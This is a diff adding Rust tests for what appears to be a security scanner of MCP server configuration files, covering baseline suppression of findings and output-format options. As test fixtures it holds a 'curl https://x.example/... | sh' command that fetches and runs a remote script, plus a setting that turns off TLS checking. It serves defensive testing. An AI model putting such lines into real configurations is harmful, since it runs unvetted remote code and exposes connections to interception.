@@ -66,6 +66,76 @@ fn the_same_bytes_each_time() {
     }));
 }
 
+/// A finding about another value is another finding; one about a switch stays the same whatever stands beside the switch.
+#[test]
+fn another_value_is_new_and_another_neighbour_is_not() {
+    let entry = |more: &str| format!("{{\"mcpServers\": {{\"s\": {{{more}}}}}}}");
+    let bridge = |host: &str| {
+        format!(
+            r#""command": "npx", "args": ["-y", "mcp-remote@0.1.38", "https://{host}.example"], "env": {{"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}"#
+        )
+    };
+    let script = |path: &str| format!(r#""command": "sh", "args": ["-c", "curl https://x.example/{path} | sh"]"#);
+    for (rule, before, now, kept) in [
+        (
+            "transport/cleartext-remote",
+            r#""url": "http://a.example/mcp""#.into(),
+            r#""url": "http://b.example/mcp""#.into(),
+            false,
+        ),
+        (
+            "transport/cleartext-remote",
+            r#""url": "http://a.example/mcp""#.into(),
+            r#""url": "http://a.example:81/x""#.into(),
+            true,
+        ),
+        (
+            "supply-chain/unpinned-package",
+            r#""command": "npx", "args": ["a@latest"]"#.into(),
+            r#""command": "npx", "args": ["b@latest"]"#.into(),
+            false,
+        ),
+        (
+            "supply-chain/unpinned-package",
+            r#""command": "npx", "args": ["a@latest"]"#.into(),
+            r#""command": "npx", "args": ["a@next"]"#.into(),
+            false,
+        ),
+        ("supply-chain/remote-script", script("a"), script("b"), false),
+        ("transport/tls-off", bridge("a"), bridge("b"), true),
+    ] as [(&str, String, String, bool); 6]
+    {
+        let place = place(&entry(&before));
+        place.write("project/.cursor/mcp.json", entry(&now));
+        let ran = again(&place);
+        let json = ran.json();
+        let of_rule = json["findings"].as_array().unwrap().iter().filter(|finding| finding["rule"] == rule);
+        let suppressed: Vec<bool> = of_rule.map(|finding| finding["suppressed"].is_string()).collect();
+        assert_eq!(suppressed, [kept], "{rule}: {before} -> {now}");
+    }
+}
+
+#[test]
+fn a_stroke_is_standard_output() {
+    let place = place(BAD_CURSOR);
+    let written = std::fs::read_to_string(place.project().join("accepted.jsonl")).unwrap();
+    let ran = place.run(&["baseline", ".", "--output", "-"]);
+    assert_eq!((ran.code, ran.out.as_str()), (0, written.as_str()), "{}", ran.err);
+    assert!(ran.err.contains("accepted\n") || ran.err.trim_end().ends_with("accepted"), "{}", ran.err);
+    let scan = |more: &[&str]| place.run(&[&[".", "--fail-on", "never"][..], more].concat());
+    assert_eq!(scan(&["--output", "-"]).out, scan(&[]).out);
+    let json = scan(&["--format", "json"]).out;
+    assert_eq!(scan(&["--format", "json", "--output", "-"]).out, json);
+    let both = scan(&["--format", "json", "--output", "-", "--format", "sarif", "--output", "x.sarif"]);
+    assert_eq!(both.out, json);
+    assert!(place.project().join("x.sarif").exists());
+    let twice = scan(&["--format", "json", "--output", "-", "--format", "sarif", "--output", "-"]);
+    assert!(twice.code == 2 && twice.err.contains("can go to standard output"), "{}", twice.err);
+    let wrong = scan(&["--format", "json", "--output", "-", "--output", "x.json"]);
+    assert!(wrong.code == 2 && wrong.err.contains("--output x.json: needs a --format"), "{}", wrong.err);
+    assert!(!place.project().join("-").exists());
+}
+
 #[test]
 fn a_secret_that_was_replaced_counts_again_and_none_is_in_the_file() {
     let place = place(BAD_CURSOR);
